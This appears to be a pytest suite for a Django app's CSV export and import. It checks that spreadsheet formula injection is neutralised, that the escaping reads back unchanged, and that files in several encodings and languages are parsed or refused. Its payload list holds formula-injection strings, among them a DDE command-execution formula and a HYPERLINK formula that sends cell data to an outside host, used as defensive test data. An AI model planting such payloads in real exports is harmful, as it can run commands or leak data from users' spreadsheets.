"""Files for spreadsheets: nothing in them runs, and what a spreadsheet saves is read."""

import re
from datetime import UTC, date, datetime
from decimal import Decimal
from itertools import product

import pytest
from django.utils.translation import gettext, override
from hypothesis import given
from hypothesis import strategies as st

from pages.csv_file import (
    Unreadable,
    csv_lines,
    plain_text,
    read_csv,
    safe_row,
    safe_text,
    stream_csv,
)

COLUMNS = {"bn": ("Business number", "Numéro d’entreprise"), "note": ("Comment", "Commentaire")}
BEGINS = "=+-@\u2212\uff1d\uff0b\uff0d\uff20"

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    '"=1',
    "＝1+1",
    "−1",
    "a;=1+1",
    "a,@x",
    "a\n=1",
    'a"\t+1',
    '=HYPERLINK("http://x.test?"&A1)',
]


def read(text: str | bytes, most_rows: int = 10) -> list[tuple[int, dict[str, str]]]:
    content = text.encode() if isinstance(text, str) else text
    table = read_csv(content, columns=COLUMNS, required=["bn"], most_rows=most_rows)
    return [(line.number, line.cells) for line in table.lines]


def runs(cell: str) -> bool:
    """Whether a spreadsheet takes the cell for a formula; quotation marks do not count."""
    return cell.lstrip(" \"'\t\r\n").startswith(tuple(BEGINS)) and "'" not in cell[:2]


@pytest.mark.asvs("1.2.1")
def test_no_cell_runs_however_the_file_is_opened() -> None:
    """Also where a spreadsheet in another language cuts the row elsewhere, quoted or not."""
    for language, delimiter in product(["en-ca", "fr-ca"], ",;\t"):
        for payload in PAYLOADS:
            with override(language):
                text = "".join(csv_lines(["Firm"], [["North", payload]])).removeprefix("\ufeff")

            assert not [cell for cell in re.split(rf"[{delimiter}\r\n]", text) if runs(cell)], text


def test_the_payloads_would_run_unguarded() -> None:
    """The control: each payload is a formula to a spreadsheet of some language."""
    for payload in PAYLOADS:
        assert any(runs(cell) for cell in re.split(r"[,;\t\r\n]", payload)), payload


@given(st.text(st.sampled_from("=+-@'\";,\t\r\n a1é＝"), max_size=12))
def test_what_is_made_safe_reads_back_as_it_was(text: str) -> None:
    assert plain_text(safe_text(text)) == text


def test_numbers_and_days_are_written_as_they_are() -> None:
    at = datetime(2026, 11, 23, 4, 30, tzinfo=UTC)

    row = safe_row([Decimal("-12.50"), -3, date(2027, 3, 31), at, None, "-12.50"])

    assert row == ["-12.50", "-3", "2027-03-31", "2026-11-22 23:30", "", "'-12.50"]


@pytest.mark.django_db
def test_a_file_is_sent_row_by_row_in_the_language_in_which_it_was_asked_for() -> None:
    drawn: list[int] = []

    def rows() -> list[str]:
        for number in range(3):
            drawn.append(number)
            yield [gettext("Clients"), number]  # type: ignore[misc]

    with override("fr-ca"):
        response = stream_csv("clients", ["BN"], rows())
        chunks = iter(response)
        begin = next(chunks)
    second = next(chunks)

    assert response["Content-Disposition"] == 'attachment; filename="clients.csv"'
    assert begin == '\ufeff"BN"\r\n'.encode()
    assert drawn == [0]
    assert second.decode() == '"Clients";"0"\r\n'
    response.close()


# ---------------------------------------------------------------- reading

TEXT = "Numéro d’entreprise;Commentaire\r\n888316171;été\r\n"


def test_a_file_is_read_as_spreadsheets_save_it() -> None:
    for encoding in ("utf-8", "utf-8-sig", "utf-16", "cp1252"):
        table = read_csv(TEXT.encode(encoding), columns=COLUMNS, required=["bn"], most_rows=10)

        assert [line.cells for line in table.lines] == [{"bn": "888316171", "note": "été"}]
        assert table.is_legacy is (encoding == "cp1252")


def test_columns_are_known_by_their_names_in_either_language() -> None:
    for names in (
        "Business number,Comment",
        "BUSINESS_NUMBER;comment",
        "Numero d'entreprise\tCOMMENTAIRE",
    ):
        mark = next(one for one in ",;\t" if one in names)

        assert read(f"{names}\n1{mark}2") == [(2, {"bn": "1", "note": "2"})]


def test_lines_in_quotes_and_empty_rows_keep_the_numbers_of_a_spreadsheet() -> None:
    text = 'Business number,Comment\r\n1,"two\r\nlines, and ""marks"""\r\n\r\n ,\r\n2\r\n3,a,b\r\n'

    table = read_csv(text.encode(), columns=COLUMNS, required=["bn"], most_rows=3)

    assert [(line.number, line.cells) for line in table.lines] == [
        (2, {"bn": "1", "note": 'two\r\nlines, and "marks"'}),
        (5, {"bn": "2"}),
        (6, {"bn": "3", "note": "a"}),
    ]
    assert [line.is_ragged for line in table.lines] == [False, False, True]


REFUSED = [
    (b"", "These are missing: Business number."),
    (b"Comment\n1", "These are missing: Business number."),
    (b"Business number\n", "no rows"),
    (b"Business number,Colour\n1,2", "“Colour” is not one of this file"),
    (b"Business number,business-number\n1,2", "stands in the file twice"),
    (b'Business number\n"1', "Row 2: the quotation marks do not match"),
    (b'Business number\n1\n"2"x', "Row 3: the quotation marks do not match"),
    (b"Business number\n" + b"1\n" * 11, "more than 10 rows"),
    (b"PK\x03\x04\x00\x00", "not readable as text"),
    (b"Business number\n\x81", "not readable as text"),
    ("Business number\n1".encode("utf-16-le"), "not readable as text"),
    (b"\xff\xfeB", "not readable as text"),
]


def test_a_file_that_cannot_be_read_is_refused_in_words() -> None:
    for content, said in REFUSED:
        with pytest.raises(Unreadable) as refused:
            read(content)
        assert said in str(refused.value), content


def test_what_was_downloaded_can_be_sent_back() -> None:
    text = "".join(csv_lines(["Business number", "Comment"], [["1", one] for one in PAYLOADS]))

    found = read(text, most_rows=100)

    assert [cells["note"] for _number, cells in found] == [one.strip() for one in PAYLOADS]
